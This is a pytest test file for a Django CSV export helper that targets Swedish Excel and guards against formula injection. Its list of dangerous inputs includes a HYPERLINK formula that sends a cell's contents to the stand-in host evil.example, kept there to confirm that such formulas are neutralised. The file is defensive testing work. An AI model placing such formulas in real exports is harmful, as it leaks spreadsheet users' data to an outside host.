"""accounts.csv_export: the one CSV writer, for Swedish Excel and safe from formula injection."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.utils.translation import gettext_lazy as _

from accounts.csv_export import csv_cell, csv_response

DANGEROUS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?leak="&B2,"Öppna")',
    "+46 8 465 004 00",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+2",
    "\r=1+2",
]


def download(header, rows, filename="lista.csv"):
    return csv_response(filename=filename, header=header, rows=rows)


def parsed(response) -> list[list[str]]:
    text = response.content.decode("utf-8").removeprefix("\ufeff")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def test_the_file_is_an_attachment_in_utf8_with_a_byte_order_mark_for_excel():
    response = download(["Namn"], [["Åsa"]], filename="arbetstraningsplatser-2026-09-01.csv")

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == (
        'attachment; filename="arbetstraningsplatser-2026-09-01.csv"'
    )
    assert response.content.startswith("\ufeff".encode())
    assert "Åsa".encode() in response.content


def test_columns_are_split_by_semicolons_and_lines_end_with_crlf():
    response = download(["Namn", "Antal"], [["Åsa", 3], ["Kafé; bageri", 12]])

    assert response.content.decode("utf-8") == (
        '\ufeff"Namn";"Antal"\r\n"Åsa";3\r\n"Kafé; bageri";12\r\n'
    )
    assert parsed(response) == [["Namn", "Antal"], ["Åsa", "3"], ["Kafé; bageri", "12"]]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_text_a_spreadsheet_would_run_as_a_formula_gets_a_quote_first(text):
    assert csv_cell(text) == f"'{text}"

    response = download(["Plats"], [[text]])

    assert parsed(response)[1] == [f"'{text}"]
    # The cell is quoted, as OWASP advises: the formula character is never first in a field.
    body = response.content.decode("utf-8").split("\r\n", 1)[1]
    assert body.startswith("\"'")


def test_quotes_inside_a_text_are_doubled():
    response = download(["Plats"], [['Kafé "Ån"']])

    assert response.content.decode("utf-8").endswith('"Kafé ""Ån"""\r\n')
    assert parsed(response)[1] == ['Kafé "Ån"']


@pytest.mark.parametrize("number", [-1, 0, 42, -2.5, Decimal("-12.50")])
def test_numbers_stay_numbers(number):
    assert csv_cell(number) == number

    response = download(["Antal"], [[number]])

    assert response.content.decode("utf-8").endswith(f"\r\n{number}\r\n")


def test_none_is_an_empty_cell():
    assert csv_cell(None) == ""
    assert parsed(download(["A", "B", "C"], [["x", None, 1]]))[1] == ["x", "", "1"]


def test_other_values_are_written_as_their_text():
    assert csv_cell(datetime.date(2026, 9, 1)) == "2026-09-01"
    assert csv_cell(_("Öppen")) == "Öppen"
    assert csv_cell(True) == "True"


def test_a_header_that_starts_like_a_formula_is_neutralised_too():
    assert parsed(download(["=Namn"], []))[0] == ["'=Namn"]
